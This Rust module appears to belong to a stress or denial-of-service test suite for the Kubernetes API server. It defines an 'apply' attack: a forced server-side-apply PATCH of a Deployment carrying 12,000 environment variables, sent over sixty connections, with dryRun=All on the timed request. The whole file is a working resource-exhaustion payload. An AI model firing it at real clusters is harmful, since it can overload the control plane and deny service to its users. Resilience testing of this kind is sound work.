//! A server-side apply of thousands of elements of one list to an object that has them.

use super::{Attack, Request, SIXTY};
use serde_json::json;

pub(super) const ATTACK: Attack = Attack {
    name: "apply",
    connections: SIXTY,
    by_administrator: Vec::new,
    prepare: || vec![request_to("")],
    request: || request_to("&dryRun=All"),
};

fn request_to(options: &str) -> Request {
    let variables: Vec<_> = (0..12_000).map(|at| json!({"name": format!("V{at}"), "value": "v"})).collect();
    let template = json!({
        "metadata": {"labels": {"a": "many"}},
        "spec": {"containers": [{"name": "c", "image": "i", "env": variables}]},
    });
    let spec = json!({"replicas": 0, "selector": {"matchLabels": {"a": "many"}}, "template": template});
    let deployment = json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "many"}, "spec": spec});
    Request {
        method: "PATCH",
        path: format!("/apis/apps/v1/namespaces/default/deployments/many?fieldManager=m&force=true{options}"),
        content_type: "application/apply-patch+yaml",
        body: deployment.to_string(),
    }
}
